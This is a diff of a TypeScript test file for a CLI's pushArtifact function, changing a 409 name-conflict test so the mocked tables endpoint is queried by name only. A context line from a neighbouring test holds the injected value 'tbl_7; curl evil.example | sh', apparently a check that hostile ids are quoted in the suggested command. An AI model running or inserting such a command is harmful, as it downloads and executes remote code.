@@ -401,33 +401,37 @@ describe('pushArtifact', () => {
     expect(error.suggestion).toContain(`--replace 'tbl_7; curl evil.example | sh'.`);
   });
 
-  it('409: exit 6 with the message verbatim and the id of the table holding the name in the hint', async () => {
+  it('409: exit 6 with the message verbatim and the id of the table holding the name (asked by name) in the hint', async () => {
+    const asked: string[][] = [];
     api.use(
       http.post(at('/api/artifacts'), () =>
         apiError(409, 'name_conflict', "A governance artifact named 'orders' already exists"),
       ),
-      http.get(at('/api/tables'), () =>
-        HttpResponse.json({
-          tables: [
-            {
-              id: 'tbl_x',
-              name: 'other',
-              mode: 'MODE_A',
-              state: 'CERTIFIED',
-              gate: 'ENFORCING',
-              environmentLabel: 'dev',
-            },
-            {
-              id: 'tbl_7',
-              name: 'Orders',
-              mode: 'MODE_A',
-              state: 'CERTIFIED',
-              gate: 'ENFORCING',
-              environmentLabel: 'dev',
-            },
-          ],
-        }),
-      ),
+      http.get(at('/api/tables'), ({ request }) => {
+        const names = new URL(request.url).searchParams.getAll('name');
+        asked.push(names);
+        const tables = [
+          {
+            id: 'tbl_x',
+            name: 'other',
+            mode: 'MODE_A',
+            state: 'CERTIFIED',
+            gate: 'ENFORCING',
+            environmentLabel: 'dev',
+          },
+          {
+            id: 'tbl_7',
+            name: 'Orders',
+            mode: 'MODE_A',
+            state: 'CERTIFIED',
+            gate: 'ENFORCING',
+            environmentLabel: 'dev',
+          },
+        ];
+        return HttpResponse.json({
+          tables: tables.filter((t) => names.every((n) => n.toLowerCase() === t.name.toLowerCase())),
+        });
+      }),
     );
     const error = await rejection(pushArtifact(newClient(), artifact, { connectorId: 'con_1' }));
     expect(error).toMatchObject({
@@ -436,6 +440,8 @@ describe('pushArtifact', () => {
       message: "A governance artifact named 'orders' already exists",
     });
     expect(error.suggestion).toContain('--replace tbl_7');
+    // The holder alone, by name: never the whole workspace's list.
+    expect(asked).toEqual([['orders']]);
   });
 
   it('404 connector_not_found: exit 5, Connector not found, pointing at gds connectors list', async () => {
